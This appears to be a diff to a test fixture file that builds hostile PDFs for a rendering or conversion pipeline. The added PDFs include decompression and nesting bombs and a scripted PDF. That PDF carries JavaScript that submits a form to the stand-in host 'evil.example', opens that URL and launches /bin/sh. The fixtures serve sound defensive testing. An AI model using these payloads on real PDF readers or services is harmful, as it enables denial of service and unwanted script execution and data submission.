@@ -45,6 +45,34 @@ export const hostilePdfs = {
     pdfOf([CATALOG, '<</Type/Pages/Kids[3 0 R]/Count 2000000000>>', page(''), stream('', Buffer.from(''))]),
   /** Pages whose parent is their child. */
   circle: () => pdfOf([CATALOG, '<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>']),
+  /** Really has a hundred thousand pages, though each is the same. */
+  countlessPages: () =>
+    pdfOf([
+      CATALOG,
+      `<</Type/Pages/Kids[${'3 0 R '.repeat(100_000)}]/Count 100000>>`,
+      page(''),
+      stream('', Buffer.from('')),
+    ]),
+  /** Lists in lists, half a million deep. */
+  nested: () =>
+    pdfOf([
+      `<</Type/Catalog/Pages 2 0 R/Names ${'['.repeat(500_000)}${']'.repeat(500_000)}>>`,
+      ONE_PAGE,
+      page(''),
+      stream('', Buffer.from('')),
+    ]),
+  /** Its objects lie in a stream of 500 MB that is 500 KB, packed twice. */
+  objectStream: () => {
+    const once = deflateSync(Buffer.alloc(250_000_000, ' '), { level: 9 })
+    const twice = deflateSync(once, { level: 9 })
+    return pdfOf([
+      CATALOG,
+      ONE_PAGE,
+      page('/Resources 5 0 R'),
+      stream('/Filter[/FlateDecode/FlateDecode]', twice),
+      stream('/Type/ObjStm/N 1000000/First 10/Filter[/FlateDecode/FlateDecode]', twice),
+    ])
+  },
   /** 100 MB of drawing in 300 KB. */
   drawing: () => {
     const lines = Buffer.from('1 1 m 500 800 l 300 20 400 30 90 700 c S\n'.repeat(200_000))
@@ -79,6 +107,16 @@ export const hostilePdfs = {
     ])
   },
 } satisfies { [name: string]: () => Buffer }
+
+/** A PDF that asks its reader to run a script, open a page of the web, start a program and send a form. Opened as an image it does none of it. */
+export const scriptedPdf = (): Buffer =>
+  pdfOf([
+    `<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://evil.example'\\))>>/AA<</WC<</S/URI/URI(http://evil.example)>>>>/Names<</JavaScript<</Names[(a) 5 0 R]>>>>>>`,
+    ONE_PAGE,
+    page('/AA<</O<</S/Launch/F(/bin/sh)>>>>'),
+    stream('', Buffer.from('100 100 m 500 800 l S')),
+    '<</S/JavaScript/JS(while\\(true\\){})>>',
+  ])
 
 /** A PNG of 30,000 by 30,000 pixels that is 400 bytes of header and nothing. */
 export const pixelBomb = (): Buffer => {
